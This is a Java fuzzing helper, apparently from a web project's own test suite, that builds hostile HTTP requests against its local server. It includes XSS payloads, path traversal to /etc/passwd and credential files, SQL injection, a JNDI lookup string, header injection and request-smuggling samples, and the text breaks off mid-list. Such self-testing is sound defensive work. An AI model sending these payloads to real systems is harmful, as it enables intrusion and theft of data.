package org.nianbao.web;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/**
 * A seeded generator of the requests an attacker or a broken client sends to {@code nianbao serve}:
 * XSS payloads in every parameter of every route, in paths, names and headers; invalid percent
 * encodings (overlong UTF-8, lone surrogates, stray bytes); path traversal; every method; absurd
 * parameters; huge URIs and headers; malformed HTTP. Probe {@code n} depends on the seed and {@code
 * n} alone, so a finding is replayed by its number. The kinds take turns in a fixed pattern, so
 * even a short run covers each of them; within a kind the catalogue is walked in order, the cross
 * product of route × parameter × payload first.
 */
final class HostileRequests {

  enum Kind {
    XSS_PARAM,
    XSS_PATH,
    XSS_HEADER,
    XSS_NAME,
    ENCODING,
    TRAVERSAL,
    METHOD,
    ABSURD,
    HUGE,
    MALFORMED,
    REPORT;

    String label() {
      return name().toLowerCase(Locale.ROOT).replace('_', '-');
    }
  }

  /**
   * One request as bytes on the wire. {@code payloads} must never come back raw (not in the body,
   * not in a header); {@code urlPayloads} have no HTML-special character, so they must only never
   * start an href, src or action. {@code mustAnswer} is false where closing the connection without
   * a reply is a fair answer (a request too large to read, bytes that are not HTTP).
   */
  record Probe(
      int number,
      Kind kind,
      byte[] bytes,
      List<String> payloads,
      List<String> urlPayloads,
      boolean mustAnswer) {

    /** The request as text, non-printable bytes as \xNN, cut at {@code max} characters. */
    String show(int max) {
      StringBuilder out = new StringBuilder();
      for (int i = 0; i < bytes.length && out.length() < max; i++) {
        int b = bytes[i] & 0xff;
        if (b == '\r') {
          out.append("\\r");
        } else if (b == '\n') {
          out.append("\\n");
        } else if (b < 0x20 || b >= 0x7f) {
          out.append(String.format(Locale.ROOT, "\\x%02x", b));
        } else {
          out.append((char) b);
        }
      }
      return out.length() >= max
          ? out.substring(0, max) + "… (" + bytes.length + " bytes)"
          : out.toString();
    }
  }

  /** Every route the Router serves; {id} is a real report id. */
  static final List<String> ROUTES =
      List.of(
          "/",
          "/reports/{id}",
          "/api/v1/search",
          "/api/v1/reports/{id}",
          "/healthz",
          Layout.STYLESHEET);

  /** The search state's parameters, an unknown one and a JSONP-style one. */
  static final List<String> PARAMS =
      List.of(
          "q",
          "year",
          "region",
          "agency",
          "sector",
          "level",
          "flag",
          "page",
          "size",
          "sort",
          "x",
          "callback");

  static final List<String> XSS =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "'><svg onload=alert(1)>",
          "</title><script>alert(document.domain)</script>",
          "</textarea><script>alert(1)</script>",
          "\" autofocus onfocus=\"alert(1)",
          "' onmouseover='alert(1)",
          "<iframe src=javascript:alert(1)></iframe>",
          "<ScRiPt>alert(1)</sCrIpT>",
          "<<script>alert(1)//<</script>",
          "<svg/onload=alert(1)>",
          "--><script>alert(1)</script><!--",
          "]]><script>alert(1)</script>",
          "<a href=\"javascript:alert(1)\">x</a>",
          "政务新媒体<script>alert(1)</script>",
          "抖音\"><b onmouseover=alert(1)>x</b>",
          "<img src=x onerror=alert`1`>",
          "<style>@import'http://evil.example/x.css';</style>",
          "{{constructor.constructor('alert(1)')()}}<x>",
          "<meta http-equiv=refresh content=0;url=http://evil.example>",
          "&lt;script&gt;alert(1)&lt;/script&gt;<b>",
          "\\\"><script>alert(1)</script>");

  /** Payloads with no HTML-special character: harmless as text, dangerous only as a link. */
  static final List<String> URL_PAYLOADS =
      List.of(
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)",
          "data:text/html,alert(1)",
          "vbscript:msgbox(1)");

  private static final List<String> BAD_ESCAPES =
      List.of(
          "%",
          "%Z",
          "%ZZ",
          "%G0",
          "%0",
          "%%",
          "%%41",
          "%u003c",
          "%uD800",
          "%C0%AF",
          "%C0%BC",
          "%C1%BF",
          "%E0%80%AF",
          "%E0%80%BC",
          "%F0%80%80%AF",
          "%F8%88%80%80%AF",
          "%FC%84%80%80%80%AF",
          "%ED%A0%80",
          "%ED%B0%80",
          "%ED%A0%80%ED%B0%80",
          "%FF",
          "%FE%FF",
          "%80",
          "%BF",
          "%E6%94",
          "%E6",
          "%F0%9F%98",
          "%00",
          "%0D%0A",
          "%C0%80",
          "%EF%BF%BF",
          "%F4%90%80%80",
          "%25",
          "%2525",
          "%EF%BB%BF",
          "%E2%80%AE",
          "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
          "%E0%80%BCscript%E0%80%BEalert(1)",
          "%uFF1Cscript%uFF1E",
          "%0",
          "%1",
          "%a",
          "%fg",
          "%%%",
          "+%+");

  /** Raw bytes (as Latin-1 chars) that are not UTF-8, or not text at all. */
  private static final List<String> BAD_BYTES =
      List.of(
          "\u00ff",
          "\u0080",
          "\u00c0\u00af",
          "\u00ed\u00a0\u0080",
          "\u00e6\u0094",
          "\u00fe\u00ff\u0000<",
          "\u0000",
          latin1("抖音".getBytes(Charset.forName("GBK"))),
          latin1("抖音".getBytes(StandardCharsets.UTF_16LE)),
          "\u007f",
          "\u00f5\u0080\u0080\u0080");

  private static final List<String> TRAVERSALS =
      List.of(
          "/../../../../etc/passwd",
          "/..%2f..%2f..%2fetc%2fpasswd",
          "/%2e%2e/%2e%2e/etc/passwd",
          "/%2E%2E%2F%2E%2E%2Fetc%2Fpasswd",
          "/%252e%252e/%252e%252e/etc/passwd",
          "/..\\..\\..\\etc\\passwd",
          "/%5c..%5c..%5cetc%5cpasswd",
          "/reports/../../pom.xml",
          "/reports/..%2f..%2fpom.xml",
          "/reports/%2e%2e",
          "/reports/..",
          "/reports/.",
          "/reports/%2e",
          "/api/v1/reports/../../../etc/passwd",
          "/api/v1/reports/..%2F..%2Fetc%2Fpasswd",
          "/api/v1/reports/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
          "/static/../../../pom.xml",
          "/static/nianbao.css/../../pom.xml",
          "/static/nianbao.css%00.html",
          "/static/..%00/pom.xml",
          "/static/%2e%2e/%2e%2e/pom.xml",
          "/static/",
          "/static/Router.class",
          "/static/org/nianbao/web/Router.class",
          "//etc/passwd",
          "///etc/passwd",
          "/./healthz",
          "/%2e/healthz",
          "/healthz/..",
          "/healthz;/../etc/passwd",
          "/;/etc/passwd",
          "/.%2e/.%2e/etc/passwd",
          "/..;/..;/etc/passwd",
          "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
          "/%uff0e%uff0e/etc/passwd",
          "/..%c0%af..%c0%afetc/passwd",
          "/..%u2215..%u2215etc/passwd",
          "/reports/....//....//etc/passwd",
          "/WEB-INF/web.xml",
          "/.git/config",
          "/.env",
          "/server/pom.xml",
          "/pom.xml",
          "/samples/000_fff72aa6ee55ba2a.txt",
          "/jetty-logging.properties",
          "/org/nianbao/web/nianbao.css",
          "/META-INF/MANIFEST.MF",
          "/index/segments_1",
          "/proc/self/environ",
          "/reports/%2e%2e%5c%2e%2e%5cpom.xml",
          "/api/v1/search/../../../etc/passwd",
          "/api/v1/search?q=../../etc/passwd",
          "/?region=../../../etc/passwd",
          "/reports/..%252f..%252fpom.xml",
          "/%2e%2e%2f",
          "/..",
          "/...",
          "/reports/%00",
          "/reports/id%00.json",
          "/api/v1/reports/%20",
          "/api/v1/reports/%0d%0aX-Injected:%20yes",
          "/api/v1/./search",
          "/api/v1/search/.",
          "/api/v1//search",
          "/API/V1/SEARCH",
          "/api/v1/search%2f",
          "/api/v1/search;x=1",
          "/healthz%00",
          "/healthz%2f..%2f..%2fetc%2fpasswd",
          "/%2fetc%2fpasswd",
          "/C:%5cWindows%5cwin.ini",
          "/..%5c..%5cWindows%5cwin.ini",
          "/reports/%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fcmdline",
          "/reports/;..;/..;/pom.xml",
          "/.%00./.%00./etc/passwd");

  private static final List<String> TRAVERSAL_STEPS =
      List.of(
          "../",
          "..%2f",
          "%2e%2e/",
          "%2e%2e%2f",
          "..\\",
          "..%5c",
          "%252e%252e%252f",
          ".%2e/",
          "%c0%ae%c0%ae/",
          "..;/",
          "....//",
          "..%00/",
          "%2e%2e%5c");

  private static final List<String> TRAVERSAL_TARGETS =
      List.of(
          "etc/passwd",
          "pom.xml",
          ".git/config",
          "index/write.lock",
          "server/src/main/resources/jetty-logging.properties",
          "proc/self/environ",
          "samples/000_fff72aa6ee55ba2a.txt",
          "");

  static final List<String> METHODS =
      List.of(
          "GET",
          "HEAD",
          "POST",
          "PUT",
          "DELETE",
          "PATCH",
          "OPTIONS",
          "TRACE",
          "CONNECT",
          "PROPFIND",
          "PROPPATCH",
          "MKCOL",
          "COPY",
          "MOVE",
          "LOCK",
          "UNLOCK",
          "SEARCH",
          "REPORT",
          "MKACTIVITY",
          "CHECKOUT",
          "MERGE",
          "M-SEARCH",
          "NOTIFY",
          "SUBSCRIBE",
          "UNSUBSCRIBE",
          "PURGE",
          "LINK",
          "UNLINK",
          "QUERY",
          "PRI",
          "DEBUG",
          "TRACK",
          "BREW",
          "get",
          "Get",
          "hEAD",
          "G\u00c9T",
          "GET<script>",
          "X".repeat(300),
          "GE T",
          "\u0000GET",
          "*",
          "-",
          "1");

  private static final List<String> ABSURD_NUMBERS =
      List.of(
          "-1",
          "0",
          "-0",
          "+1",
          "01",
          "1.5",
          "1e3",
          "0x10",
          "1_000",
          "-2147483648",
          "2147483647",
          "2147483648",
          "9223372036854775807",
          "9223372036854775808",
          "1000000000000",
          "99999999999999999999999999999999",
          "NaN",
          "Infinity",
          "-Infinity",
          " 1",
          "1 ",
          "\u0661",
          "\uff11",
          "一",
          "",
          "1000",
          "1001",
          "999",
          "100",
          "101",
          "1,000",
          "١٠",
          "1\u0000",
          "true",
          "null",
          "[]",
          "{}",
          "${jndi:ldap://x/a}");

  private static final List<String> ABSURD_YEARS =
      List.of(
          "abc",
          "-2023",
          "0",
          "0000",
          "9999",
          "99999999999",
          "2023.0",
          "\uff12\uff10\uff12\uff13",
          "二〇二三",
          "2023abc",
          " 2023",
          "1e4",
          "2023/2024",
          "2023-2024",
          "20 23",
          "１９９９",
          "2023\u0000");

  private static final List<String> ABSURD_FILTERS =
      List.of(
          "/",
          "//",
          "山东省/",
          "/山东省",
          "000000",
          "999999",
          "370300370300",
          "山东省/山东省/山东省",
          "朝阳区",
          "鼓楼区",
          "😀",
          "\u0000",
          "\u202e山东省",
          "山东省\r\nX-Injected: yes",
          "CITY",
          "City",
          "r1",
          "R0",
          "R8",
          "R10",
          "r",
          "central ",
          "YEAR_DESC",
          "relevance;",
          "*",
          "%",
          "_",
          "'",
          "\"",
          "\\",
          ".*",
          "山东省'--",
          "1' OR '1'='1",
          "'; DROP TABLE reports; --");

  private static final List<String> ABSURD_QUERIES =
      List.of(
          "!!!",
          "\"",
          "\"\"\"",
          "*",
          "?",
          "AND OR NOT",
          "(((((",
          ")",
          "[",
          "{",
          "~",
          "^",
          "\\",
          "/",
          "title:x",
          "*:*",
          "+-&&||!(){}[]^\"~*?:\\/",
          "/.*/",
          "抖音~2",
          "抖*",
          "*音",
          "抖音^1000",
          "\"抖音",
          "抖音\"",
          "\"\"",
          "。。。",
          "，",
          "　",
          "\u200b",
          "\ufeff",
          "\ud83d\ude00",
          "𠀀𠀁",
          "a".repeat(500),
          "政".repeat(500),
          "政".repeat(501),
          "a ".repeat(250),
          "\"" + "抖音 ".repeat(100) + "\"",
          "x".repeat(5000),
          "field:\"value\"",
          "_id:1",
          "<",
          ">",
          "&",
          "&amp;",
          "%",
          "%%",
          "\u0000\u0001\u0002");

  private static final List<String> ID_VARIANTS =
      List.of(
          "{id}'",
          "{id}%00",
          "{id}/",
          "{id}.json",
          "{id}{id}{id}{id}{id}",
          "{ID}",
          "{id}%20",
          "%20{id}",
          "{id};x=1",
          "{id}?",
          "{id}#x",
          "{id}%2f..",
          "{id}\u00ff",
          "{id}" + "a".repeat(60),
          "-".repeat(64),
          "_",
          "0",
          "{id}%ED%A0%80",
          "{id}%3Cscript%3E");

  private final long seed;
  private final String host;
  private final List<String> ids;
  private static final Kind[] PATTERN = pattern();

  /**
   * @param host the Host header value ({@code 127.0.0.1:port})
   * @param ids real report ids of the index, for the routes that take one
   */
  HostileRequests(long seed, String host, List<String> ids) {
    if (ids.isEmpty()) {
      throw new IllegalArgumentException("need at least one report id");
    }
    this.seed = seed;
    this.host = host;
    this.ids = List.copyOf(ids);
  }

  /**
   * Out of every 25 probes: 8 XSS in parameters, 3 encodings, 3 absurd parameters, 2 each of
   * traversal, methods and malformed HTTP.
   */
  private static Kind[] pattern() {
    List<Kind> out = new ArrayList<>();
    addTimes(out, Kind.XSS_PARAM, 8);
    addTimes(out, Kind.XSS_PATH, 1);
    addTimes(out, Kind.XSS_HEADER, 1);
    addTimes(out, Kind.XSS_NAME, 1);
    addTimes(out, Kind.ENCODING, 3);
    addTimes(out, Kind.TRAVERSAL, 2);
    addTimes(out, Kind.METHOD, 2);
    addTimes(out, Kind.ABSURD, 3);
    addTimes(out, Kind.HUGE, 1);
    addTimes(out, Kind.MALFORMED, 2);
    addTimes(out, Kind.REPORT, 1);
    // Interleave so that a short run meets every kind early: spread each kind over the cycle.
    Kind[] cycle = new Kind[out.size()];
    int[] order = {
      0, 11, 14, 8, 17, 20, 1, 12, 22, 9, 2, 15, 18, 3, 23, 10, 4, 16, 13, 5, 24, 19, 6, 21, 7
    };
    for (int i = 0; i < cycle.length; i++) {
      cycle[i] = out.get(order[i]);
    }
    return cycle;
  }

  private static void addTimes(List<Kind> out, Kind kind, int times) {
    for (int i = 0; i < times; i++) {
      out.add(kind);
    }
  }

  Probe probe(int n) {
    Kind kind = PATTERN[n % PATTERN.length];
    int perCycle = 0;
    int rank = 0;
    for (int i = 0; i < PATTERN.length; i++) {
      if (PATTERN[i] == kind) {
        if (i < n % PATTERN.length) {
          rank++;
        }
        perCycle++;
      }
    }
    int k = (n / PATTERN.length) * perCycle + rank;
    Random random = new Random(seed * 1_000_003L + n);
    Builder b = new Builder(n, kind);
    switch (kind) {
      case XSS_PARAM -> xssParam(b, k, random);
      case XSS_PATH -> xssPath(b, k, random);
      case XSS_HEADER -> xssHeader(b, k, random);
      case XSS_NAME -> xssName(b, k, random);
      case ENCODING -> encoding(b, k, random);
      case TRAVERSAL -> traversal(b, k, random);
      case METHOD -> method(b, k, random);
      case ABSURD -> absurd(b, k, random);
      case HUGE -> huge(b, k, random);
      case MALFORMED -> malformed(b, k, random);
      case REPORT -> report(b, k, random);
    }
    return b.build();
  }

  // ---------------------------------------------------------------- kinds

  /**
   * Route × parameter × payload, the route turning fastest; some companions and three encodings of
   * the payload.
   */
  private void xssParam(Builder b, int k, Random random) {
    String route = ROUTES.get(k % ROUTES.size());
    String param = PARAMS.get((k / ROUTES.size()) % PARAMS.size());
    int combos = ROUTES.size() * PARAMS.size();
    boolean url = (k / combos) % (XSS.size() + URL_PAYLOADS.size()) >= XSS.size();
    int p = (k / combos) % (XSS.size() + URL_PAYLOADS.size());
    String payload = url ? URL_PAYLOADS.get(p - XSS.size()) : XSS.get(p);
    if (url) {
      b.urlPayload(payload);
    } else {
      b.payload(payload);
    }
    StringBuilder query =
        new StringBuilder(param).append('=').append(encodeSomehow(payload, random));
    for (String companion : companions(random)) {
      if (!companion.startsWith(param + "=")) {
        query.append('&').append(companion);
      }
    }
    b.get(route(route, random) + "?" + query, random.nextInt(10) == 0 ? "HEAD" : "GET");
  }

  private void xssPath(Builder b, int k, Random random) {
    List<String> templates =
        List.of(
            "/reports/%s",
            "/api/v1/reports/%s",
            "/%s",
            "/api/v1/%s",
            "/healthz/%s",
            "/static/%s",
            "/api/v1/search/%s",
            "/reports/{id}/%s",
            "/%s/healthz");
    String template = templates.get(k % templates.size());
    String payload = XSS.get((k / templates.size()) % XSS.size());
    b.payload(payload);
    String segment =
        switch (random.nextInt(3)) {
          case 0 -> percentAll(payload);
          case 1 -> rawPath(payload);
          default -> latin1(payload.replace(" ", "%20").getBytes(StandardCharsets.UTF_8));
        };
    b.get(route(template, random).replace("%s", segment), "GET");
  }

  private void xssHeader(Builder b, int k, Random random) {
    List<String> names =
        List.of(
            "User-Agent",
            "Referer",
            "Cookie",
            "Accept-Language",
            "X-Forwarded-For",
            "X-Forwarded-Host",
            "Forwarded",
            "Origin",
            "Accept",
            "If-None-Match",
            "Authorization",
            "X-Requested-With",
            "Content-Type",
            "Host",
            "X-Forwarded-Proto",
            "X-Original-URL",
            "X-Rewrite-URL",
            "Range",
            "Via",
            "From");
    String name = names.get(k % names.size());
    String payload = XSS.get((k / names.size()) % XSS.size());
    b.payload(payload);
    String route = route(ROUTES.get(random.nextInt(ROUTES.size())), random);
    String value =
        name.equals("Cookie")
            ? "session=" + payload
            : name.equals("Range") ? "bytes=" + payload : payload;
    if (name.equals("Host")) {
      b.withoutHost();
    }
    b.header(name, latin1(value.getBytes(StandardCharsets.UTF_8)));
    b.get(route + "?" + String.join("&", companions(random)), "GET");
  }

  /** The payload as a parameter's name, or in an unknown parameter among many, or after a '#'. */
  private void xssName(Builder b, int k, Random random) {
    String payload = XSS.get(k % XSS.size());
    b.payload(payload);
    String route = route(ROUTES.get((k / XSS.size()) % ROUTES.size()), random);
    String encoded = encodeSomehow(payload, random);
    String query =
        switch (random.nextInt(4)) {
          case 0 -> encoded + "=1";
          case 1 -> encoded + "=" + encoded;
          case 2 -> "q=x&" + encoded + "&page=1";
          default -> "q=" + q("抖音") + "&x" + random.nextInt(100) + "=" + encoded + "#" + encoded;
        };
    b.get(route + "?" + query, "GET");
  }

  private void encoding(Builder b, int k, Random random) {
    String route = route(ROUTES.get(random.nextInt(ROUTES.size())), random);
    boolean bytes = k % 4 == 3;
    String bad =
        bytes
            ? BAD_BYTES.get((k / 4) % BAD_BYTES.size())
            : BAD_ESCAPES.get((k / 4 * 3 + k % 4) % BAD_ESCAPES.size());
    if (bad.contains("script")) {
      b.payload("<script>alert(1)</script>").payload("<script>");
    }
    String around = random.nextBoolean() ? q("抖音") : "";
    String target =
        switch (random.nextInt(5)) {
          case 0, 1 ->
              route + "?" + PARAMS.get(random.nextInt(PARAMS.size())) + "=" + around + bad + around;
          case 2 -> route + "?" + bad + "=1&q=" + around;
          case 3 -> route.replaceAll("/$", "") + "/" + bad;
          default -> "/" + bad + route;
        };
    b.get(target, "GET");
  }

  private void traversal(Builder b, int k, Random random) {
    String target;
    if (k < TRAVERSALS.size() * 2) {
      target = TRAVERSALS.get(k % TRAVERSALS.size());
    } else {
      String prefix =
          List.of("/", "/reports/", "/api/v1/reports/", "/static/", "/api/v1/", "/healthz/")
              .get(random.nextInt(6));
      String step = TRAVERSAL_STEPS.get(random.nextInt(TRAVERSAL_STEPS.size()));
      target =
          prefix
              + step.repeat(1 + random.nextInt(8))
              + TRAVERSAL_TARGETS.get(random.nextInt(TRAVERSAL_TARGETS.size()));
    }
    b.get(target, random.nextInt(8) == 0 ? "HEAD" : "GET");
  }

  private void method(Builder b, int k, Random random) {
    String method = METHODS.get(k % METHODS.size());
    String route = route(ROUTES.get((k / METHODS.size()) % ROUTES.size()), random);
    String payload = XSS.get(random.nextInt(XSS.size()));
    b.payload(payload);
    String target = route + "?q=" + encodeSomehow(payload, random);
    if (method.equals("CONNECT") && random.nextBoolean()) {
      target = host;
    } else if (method.equals("OPTIONS") && random.nextBoolean()) {
      target = "*";
    }
    b.header("X-Probe", latin1(payload.getBytes(StandardCharsets.UTF_8)));
    switch (random.nextInt(4)) {
      case 0 -> b.body("q=" + q(payload) + "&page=-1", "application/x-www-form-urlencoded");
      case 1 ->
          b.body(
              "{\"q\":\"" + payload.replace("\"", "\\\"") + "\",\"size\":1000000000000}",
              "application/json");
      case 2 -> b.chunked("q=" + q(payload));
      default -> {}
    }
    if (random.nextInt(5) == 0) {
      b.header("X-HTTP-Method-Override", List.of("DELETE", "PUT", "GET").get(random.nextInt(3)));
    }
    b.get(target, method);
  }

  private void absurd(Builder b, int k, Random random) {
    String route =
        route(
            List.of("/", "/api/v1/search", "/reports/{id}", "/api/v1/reports/{id}", "/healthz")
                .get(k % 5),
            random);
    String query =
        switch ((k / 5) % 8) {
          case 0 ->
              List.of("page", "size").get(random.nextInt(2))
                  + "="
                  + q(pick(ABSURD_NUMBERS, random));
          case 1 -> "year=" + q(pick(ABSURD_YEARS, random));
          case 2 ->
              List.of("region", "agency", "sector", "level", "flag", "sort").get(random.nextInt(6))
                  + "="
                  + q(pick(ABSURD_FILTERS, random));
          case 3 -> "q=" + q(pick(ABSURD_QUERIES, random));
          case 4 -> "region=" + q(longRegion(random));
          case 5 -> repeated(random);
          case 6 ->
              List.of(
                      "",
                      "&",
                      "&&&",
                      "=",
                      "=x",
                      "q",
                      "q=",
                      "page=",
                      "size=&page=",
                      "q&q",
                      "=&=&=",
                      "q=%20",
                      "q=+",
                      ";",
                      "q=a;page=2",
                      "q[]=x",
                      "q[a]=x&q[b]=y",
                      "q.x=1",
                      "__proto__[x]=1",
                      "constructor[prototype][x]=1")
                  .get(random.nextInt(20));
          default ->
              "page="
                  + q(pick(ABSURD_NUMBERS, random))
                  + "&size="
                  + q(pick(ABSURD_NUMBERS, random))
                  + "&year="
                  + q(pick(ABSURD_YEARS, random))
                  + "&sort="
                  + q(pick(ABSURD_FILTERS, random))
                  + "&q="
                  + q(pick(ABSURD_QUERIES, random));
        };
    b.get(route + "?" + query, "GET");
  }

  /**
   * A region of about 10 KB, or one just under the URI limit so that it reaches the application.
   */
  private static String longRegion(Random random) {
    return switch (random.nextInt(4)) {
      case 0 -> "a".repeat(10_240);
      case 1 -> "山东省/".repeat(300);
      case 2 -> "山".repeat(201);
      default -> "淄博市".repeat(60 + random.nextInt(200));
    };
  }

  private static String repeated(Random random) {
    String name = pick(List.of("q", "page", "size", "year", "region", "sort", "x"), random);
    int times = List.of(2, 3, 10, 100, 1000).get(random.nextInt(5));
    List<String> parts = new ArrayList<>();
    for (int i = 0; i < times; i++) {
      parts.add(
          name
              + "="
              + (name.equals("region")
                  ? q("山东省")
                  : name.equals("q") ? q("抖音") : Integer.toString(1 + i % 3)));
    }
    return String.join("&", parts);
  }

  private void huge(Builder b, int k, Random random) {
    b.mayClose();
    int[] sizes = {4_096, 8_000, 8_191, 8_192, 8_193, 16_384, 65_536, 262_144, 1_048_576};
    int size = sizes[(k / 8) % sizes.length];
    String route = route(ROUTES.get(random.nextInt(ROUTES.size())), random);
    switch (k % 8) {
      case 0 -> b.get("/reports/" + "a".repeat(size), "GET");
      case 1 -> b.get(route + "?q=" + "x".repeat(size), "GET");
      case 2 -> b.header("X-Long", "a".repeat(size)).get(route, "GET");
      case 3 -> {
        for (int i = 0; i < Math.min(size / 8, 20_000); i++) {
          b.header("X-H" + i, "v");
        }
        b.get(route, "GET");
      }
      case 4 -> b.header("Cookie", "c=" + "%3Cscript%3E".repeat(size / 12)).get(route, "GET");
      case 5 -> b.get(route + "?" + "x=1&".repeat(size / 4), "GET");
      case 6 -> b.header("X-" + "N".repeat(size), "v").get(route, "GET");
      default ->
          b.body("q=" + "y".repeat(size), "application/x-www-form-urlencoded")
              .get(route, random.nextBoolean() ? "GET" : "POST");
    }
  }

  private void malformed(Builder b, int k, Random random) {
    if (k % 2 == 0) {
      List<byte[]> catalogue = malformedCatalogue();
      b.raw(catalogue.get((k / 2) % catalogue.size()));
      b.payload("<script>alert(1)</script>");
    } else {
      b.raw(mutate(validRequest(random), random));
    }
    b.mayClose();
  }

  private void report(Builder b, int k, Random random) {
    String route = k % 2 == 0 ? "/reports/" : "/api/v1/reports/";
    String id = ids.get((k / 2) % ids.size());
    String target;
    switch ((k / 2) % 3) {
      case 0 -> {
        String payload = XSS.get((k / 6) % XSS.size());
        b.payload(payload);
        target = route + id + "?q=" + encodeSomehow(payload, random);
      }
      case 1 ->
          target =
              route
                  + id
                  + "?q="
                  + q(pick(ABSURD_QUERIES, random))
                  + "&"
                  + pick(
                      List.of(
                          "page=-1",
                          "size=1000000000000",
                          "year=abc",
                          "q=" + q("抖音"),
                          "x=" + BAD_ESCAPES.get(random.nextInt(BAD_ESCAPES.size()))),
                      random);
      default -> {
        String variant =
            pick(ID_VARIANTS, random)
                .replace("{id}", id)
                .replace("{ID}", id.toUpperCase(Locale.ROOT));
        target = route + latin1(variant.getBytes(StandardCharsets.UTF_8));
      }
    }
    b.get(target, "GET");
  }

  // ---------------------------------------------------------------- catalogue of broken HTTP

  private List<byte[]> malformedCatalogue() {
    String h = "Host: " + host + "\r\n";
    String xss = "<script>alert(1)</script>";
    List<String> texts =
        List.of(
            "GET /\r\n\r\n",
            "GET / HTTP/1.1\r\n\r\n",
            "GET /healthz HTTP/1.0\r\n\r\n",
            "GET /healthz HTTP/2.0\r\n" + h + "\r\n",
            "GET /healthz HTTP/9.9\r\n" + h + "\r\n",
            "GET /healthz HTTP/1.1 extra\r\n" + h + "\r\n",
            "GET /healthz http/1.1\r\n" + h + "\r\n",
            "GET /healthz HTTP/1.1.1\r\n" + h + "\r\n",
            "GET /healthz HTTP/\r\n" + h + "\r\n",
            "GET  /healthz  HTTP/1.1\r\n" + h + "\r\n",
            "GET\t/healthz\tHTTP/1.1\r\n" + h + "\r\n",
            " GET /healthz HTTP/1.1\r\n" + h + "\r\n",
            "\r\n\r\nGET /healthz HTTP/1.1\r\n" + h + "\r\n",
            "GET /healthz HTTP/1.1\n" + h.replace("\r", "") + "\n",
            "GET /healthz HTTP/1.1\r" + h.replace("\n", "") + "\r",
            "GET /healthz HTTP/1.1\r\n" + h + "Host: other.example\r\n\r\n",
            "GET /healthz HTTP/1.1\r\nHost: \r\n\r\n",
            "GET /healthz HTTP/1.1\r\nHost: x:99999\r\n\r\n",
            "GET /healthz HTTP/1.1\r\nHost: x:-1\r\n\r\n",
            "GET /healthz HTTP/1.1\r\nHost: [::1\r\n\r\n",
            "GET /healthz HTTP/1.1\r\nHost: " + xss + "\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "Bad Header Line\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "X-A : b\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "X-A: a\r\n folded " + xss + "\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "X-A: a\u0000b\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "X-\u0000: b\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + ": novalue\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "X-A: \u007f\u00ff\u00fe\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "Content-Length: -1\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "Content-Length: abc\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "Content-Length: 3\r\nContent-Length: 5\r\n\r\nabcde",
            "GET /healthz HTTP/1.1\r\n" + h + "Content-Length: 1e3\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "Content-Length: 99999999999999999999\r\n\r\n",
            "POST /api/v1/search HTTP/1.1\r\n"
                + h
                + "Transfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n",
            "POST /api/v1/search HTTP/1.1\r\n"
                + h
                + "Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFFF\r\nabc\r\n",
            "POST /api/v1/search HTTP/1.1\r\n" + h + "Transfer-Encoding: chunked\r\n\r\n5\r\nabc",
            "POST /api/v1/search HTTP/1.1\r\n"
                + h
                + "Transfer-Encoding: chunked\r\n\r\n3;"
                + xss
                + "\r\nabc\r\n0\r\n\r\n",
            "POST /api/v1/search HTTP/1.1\r\n"
                + h
                + "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\nGET /nope"
                + xss
                + " HTTP/1.1\r\n"
                + h
                + "\r\n",
            "POST /api/v1/search HTTP/1.1\r\n"
                + h
                + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nZ\r\nQ\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n"
                + h
                + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "Transfer-Encoding: xchunked\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "Expect: 100-continue\r\n\r\n",
            "POST /api/v1/search HTTP/1.1\r\n"
                + h
                + "Expect: 100-continue\r\nContent-Length: 10\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n" + h + "Expect: 999-weird\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n"
                + h
                + "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
            "GET /healthz HTTP/1.1\r\n"
                + h
                + "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
            "GET http://" + host + "/healthz HTTP/1.1\r\n" + h + "\r\n",
            "GET http://evil.example/healthz HTTP/1.1\r\n" + h + "\r\n",
            "GET https://evil.example/ HTTP/1.1\r\n" + h + "\r\n",
            "GET ftp://evil.example/ HTTP/1.1\r\n" + h + "\r\n",
            "GET //evil.example/healthz HTTP/1.1\r\n" + h + "\r\n",
            "GET * HTTP/1.1\r\n" + h + "\r\n",
            "GET ? HTTP/1.1\r\n" + h + "\r\n",
            "GET # HTTP/1.1\r\n" + h + "\r\n",
